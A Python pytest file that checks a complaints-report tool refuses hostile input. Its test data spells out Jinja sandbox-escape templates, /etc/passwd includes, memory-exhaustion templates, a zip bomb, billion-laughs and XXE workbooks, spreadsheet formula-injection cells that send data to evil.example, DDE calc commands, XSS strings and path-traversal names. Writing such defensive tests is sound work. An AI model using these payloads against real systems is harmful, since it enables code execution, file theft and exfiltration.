"""Templates, workbooks and settings from somebody who means harm: each refused, quickly."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from builders_tell import some_findings, told
from complaints_learning import read
from complaints_learning.nouns.errors import ReadError, TemplateError
from complaints_learning.nouns.report import plain

SECONDS = 10
"""Of the processor: how busy the computer is says nothing about us."""

DOUBLED = "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}"
BLOCKS = (
    "{% set a %}aaaaaaaaaaaaaaaa{% endset %}"
    + "{% set a %}{{ a }}{{ a }}{% endset %}" * 40
    + "{{ a }}"
)
LISTED = "{% set a = 'aaaaaaaa' %}" + "{% set a = [a, a] | listed %}" * 40 + "{{ a }}"
NESTED = "{% set a = 'aaaaaaaa' %}" + "{% set a = [a, a] %}" * 40
TEN = "{% for x in [1,2,3,4,5,6,7,8,9,0] %}"
LOOPS = TEN * 9 + "{% endfor %}" * 9
OUTPUT = TEN * 7 + "a long enough text to fill a memory with" + "{% endfor %}" * 7
DOUBLING_MACRO = (
    "{% macro f(x) %}{% if x %}{% set y = x[1:] %}{% set a = f(y) %}{% set b = f(y) %}{% endif %}"
    "{% endmacro %}{{ f('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') }}"
)

TEMPLATES = {
    # out of the sandbox
    "the class of a text": "{{ ''.__class__ }}",
    "all classes there are": "{{ ().__class__.__base__.__subclasses__() }}",
    "a function's globals": "{{ figure.__globals__ }}",
    "a method's function": "{{ figure.__func__.__globals__ }}",
    "a method's object": "{{ table.__self__ }}",
    "a method's own attribute": "{{ figure.im_func }}",
    "a private attribute": "{{ themes[0]._lookup }}",
    "a private item": "{{ themes[0]['_lookup'] }}",
    "a class by item": "{{ themes['__class__'] }}",
    "a class by format": "{{ '{0.__class__.__mro__}'.format(figure) }}",
    "a class by format_map": "{{ '{a.__class__}'.format_map({'a': figure}) }}",
    "a class by filter": "{{ figure | attr('__class__') }}",
    "a class by map": "{{ themes | map(attribute='__class__') | list }}",
    "the loop's frame": "{% for t in themes %}{{ loop._iterator }}{% endfor %}",
    "the loop's class": "{% for t in themes %}{{ loop.__class__ }}{% endfor %}",
    "a macro's environment": "{% macro m() %}{% endmacro %}{{ m._environment }}",
    "a macro's function": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "the template itself": "{{ self.__init__.__globals__ }}",
    "the template's context": "{{ self._TemplateReference__context }}",
    "jinja's own helpers": "{{ lipsum.__globals__['os'] }}",
    "the cycler": "{{ cycler.__init__.__globals__ }}",
    "a namespace": "{% set n = namespace(a=1) %}",
    "a dict by name": "{{ dict(a=1) }}",
    "the request of a web framework": "{{ request.application.__globals__ }}",
    "the settings of a web framework": "{{ config.items() }}",
    "a generator's frame": "{{ (themes | listed).gi_frame }}",
    "changing what is given": "{% do themes.append(1) %}",
    "changing a list": "{{ [].append(1) }}",
    "a debugger": "{% debug %}",
    "an import": "{% import 'os' as os %}",
    # files and the network
    "a file by include": "{% include '/etc/passwd' %}",
    "a file above": "{% include '../../cl.toml' %}",
    "a file by extends": "{% extends 'C:\\\\windows\\\\win.ini' %}",
    "a file from the network": "{% include 'https://evil.example/x' %}",
    "a share": "{% include '//evil.example/share/x' %}",
    "open": "{{ open('/etc/passwd') }}",
    "python": "{{ __import__('os').system('id') }}",
    # memory and time
    "a text ten to the nine long": "{{ 'a' * 10 ** 9 }}",
    "a text long by multiplying": "{{ 'a' * 999999999 }}",
    "a tower of powers": "{{ 9 ** 9 ** 9 ** 9 }}",
    "a text long by centring": "{{ 'a'.center(999999999) }}",
    "a text long by filling": "{{ 'a'.zfill(999999999) }}",
    "a text long by tabs": "{{ '\t'.expandtabs(999999999) }}",
    "a text long by format": "{{ '{:>999999999}'.format('a') }}",
    "a text long by percent": "{{ '%999999999s' % 'a' }}",
    "a text long by replacing": "{{ 'aaaa'.replace('a', 'aaaa') }}",
    "a text long by joining": "{{ 'a'.join(themes) }}",
    "a text doubled forty times": DOUBLED,
    "a block doubled forty times": BLOCKS,
    "a list in words doubled forty times": LISTED,
    "a list doubled forty times": NESTED + "{{ a }}",
    "a list doubled and joined": NESTED + "{{ 'a' ~ a }}",
    "a list doubled and lower-cased": NESTED + "{{ a | lower_first }}",
    "two lists doubled and compared": (
        NESTED + NESTED.replace(" a ", " b ").replace("[a, a]", "[b, b]") + "{{ a == b }}"
    ),
    "a list doubled as a name": NESTED + "{{ figure(a) }}",
    "a dictionary": "{% set a = {'a': themes} %}",
    "loops in loops in loops": LOOPS,
    "loops that print": OUTPUT,
    "a range": "{% for i in range(999999999) %}{% endfor %}",
    "a macro that calls itself": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "a macro that calls itself twice": DOUBLING_MACRO,
    "a file that includes itself": "{% include 'one.md.j2' %}",
    "ten thousand brackets": "{{ " + "(" * 10_000 + "1" + ")" * 10_000 + " }}",
    "a giant template": "a" * 400_000,
}


@pytest.mark.parametrize("attack", TEMPLATES)
def test_a_hostile_template_is_refused_quickly(attack: str) -> None:
    started = time.process_time()
    with pytest.raises(TemplateError) as refused:
        told(TEMPLATES[attack], some_findings({"received": 1}))
    assert time.process_time() - started < SECONDS
    assert len(str(refused.value)) < 100_000
    assert "root:" not in str(refused.value)


def test_the_limits_are_far_from_what_an_honest_template_needs() -> None:
    text = "{% for a in themes %}{% for b in themes %}{{ a.title ~ ' and ' ~ b.title }}, " * 1
    report = told(f"{text}{{% endfor %}}{{% endfor %}}", some_findings({}))
    words = plain(report.blocks[0].line)  # type: ignore[union-attr]
    assert words.startswith("Communication and Communication, Communication and Delay (not EHC), ")


@pytest.mark.parametrize("text", ["[" * 400_000, "*a " * 130_000, "> " * 200_000, "`" * 400_000])
def test_text_made_to_be_slow_to_read_is_refused_quickly(text: str) -> None:
    made = "{% raw %}" + text[:290_000] + "{% endraw %}"
    started = time.process_time()
    with pytest.raises(TemplateError, match=f"more than 20,000 times '{re.escape(text[0])}'"):
        told(made, some_findings({}))
    assert time.process_time() - started < SECONDS


# -- workbooks --------------------------------------------------------------------------------


def a_workbook(change: dict[str, bytes] | None = None) -> bytes:
    """An ordinary register as xlsx, some of its parts replaced."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Case Ref", "Date Received", "Outcome"])
    sheet.append(["C101", "01/05/2022", "Upheld"])
    saved = io.BytesIO()
    book.save(saved)
    out = io.BytesIO()
    with zipfile.ZipFile(saved) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in (change or {}):
                new.writestr(name, old.read(name))
        for name, data in (change or {}).items():
            new.writestr(name, data)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10 if i else b"lol") for i in range(10)
)
WORKBOOKS = {
    "a zip bomb": {SHEET: b"<worksheet>" + b" " * 150_000_000},
    "a billion laughs": {
        SHEET: b"<!DOCTYPE x [" + LAUGHS + b']><worksheet xmlns="' + MAIN + b'"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>'
    },
    "an outside entity": {
        SHEET: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet xmlns="'
        + MAIN
        + b'"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>'
        b"</sheetData></worksheet>"
    },
    "no sheet at all": {SHEET: b""},
    "half a sheet": {SHEET: b"<worksheet><sheetData><row"},
}
DAMAGED = ("no sheet at all", "half a sheet")


@pytest.mark.parametrize("attack", WORKBOOKS)
def test_a_hostile_workbook_is_refused_quickly(attack: str, tmp_path: Path) -> None:
    path = tmp_path / "log.xlsx"
    path.write_bytes(a_workbook(WORKBOOKS[attack]))
    started = time.process_time()
    with pytest.raises(ReadError) as refused:
        read.tables(path, "register")
    assert time.process_time() - started < SECONDS
    assert refused.value.code == ("file-damaged" if attack in DAMAGED else "file-unsafe")
    assert "root:" not in str(refused.value)
    assert len(str(refused.value)) < 1_000


CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+9)*cmd|'/c calc'!A1",
    "\t=1+1",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
    "\u202egnp.exe",
    "{{ figure.__globals__ }}",
    "{% include 'cl.toml' %}",
    "<script>alert(1)</script>",
    "![x](https://evil.example/a.png)",
    "[x](javascript:alert(1))",
    "</w:t></w:r></w:p>",
]


def test_hostile_cells_are_only_ever_text(
    a_workspace: Callable[..., Path], cl: Callable[..., Any]
) -> None:
    """In the service column, because its words come out in every output."""
    home = a_workspace()
    (home / "register" / "complaints.xlsx").unlink()  # there a formula is no text
    with (home / "register" / "log.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["Case Ref", "Date Received", "Outcome", "Service"])
        for n, cell in enumerate(CELLS * 9):
            rows.writerow([f"C{n:03d}", "10/05/2022", "Upheld", cell])
    formats = ("--format", "docx", "--format", "html", "--format", "xlsx")
    ran = cl("report", "--period", "2023", "--workspace", home, *formats)
    assert ran.code in (0, 3), ran.err
    out = home / "out" / "2022-23"
    book = load_workbook(out / "learning-report.xlsx")
    said = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert set(CELLS) - said == {"\t=1+1", "\u202egnp.exe"}  # whose first sign is not read
    with zipfile.ZipFile(out / "learning-report.xlsx") as pack:
        sheets = [pack.read(n).decode() for n in pack.namelist() if "worksheets/" in n]
    assert not [sheet for sheet in sheets if "<f>" in sheet]
    page = (out / "learning-report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert '<img src="https' not in page
    assert 'href="javascript' not in page
    assert "\u202e" not in page
    with zipfile.ZipFile(out / "learning-report.docx") as word:
        parts = "".join(word.read(n).decode() for n in word.namelist() if n.endswith(".rels"))
    assert "evil.example" not in parts


# -- names that would leave their folder ------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../../x", "/etc/passwd", "..", "learning_report/../../x", "a\0b"]
)
def test_a_template_name_cannot_leave_its_folder(
    name: str, a_workspace: Callable[..., Path], cl: Callable[..., Any]
) -> None:
    home = a_workspace()
    ran = cl("report", "--period", "2023", "--workspace", home, "--template", name)
    assert ran.code == 2
    assert not (home / "out").exists()


@pytest.mark.parametrize("place", ["../outside.docx", "/etc/passwd", "..\\outside.docx"])
def test_a_shell_outside_the_workspace_is_refused(
    place: str, a_workspace: Callable[..., Path], cl: Callable[..., Any], tmp_path: Path
) -> None:
    (tmp_path / "outside.docx").write_bytes(b"anything")
    home = a_workspace(settings=f"[report]\nshell = '{place}'\n")
    ran = cl("report", "--period", "2023", "--workspace", home)
    assert ran.code == 2
    assert ran.err.startswith("cl: cl.toml: [report] shell: ")


@pytest.mark.parametrize("pattern", ["../secret.csv", "/etc/pass*", "../*", "register/../../*"])
def test_a_source_outside_the_workspace_is_not_read(
    pattern: str, a_workspace: Callable[..., Path], cl: Callable[..., Any], tmp_path: Path
) -> None:
    (tmp_path / "secret.csv").write_text("Case Ref,Outcome\nSECRET1,Upheld\n", encoding="utf-8")
    home = a_workspace(settings=f"[sources]\nregister = ['{pattern}']\n")
    ran = cl("check", "--workspace", home)
    assert ran.code == 2
    assert "SECRET1" not in ran.out + ran.err
    assert "root:" not in ran.out + ran.err
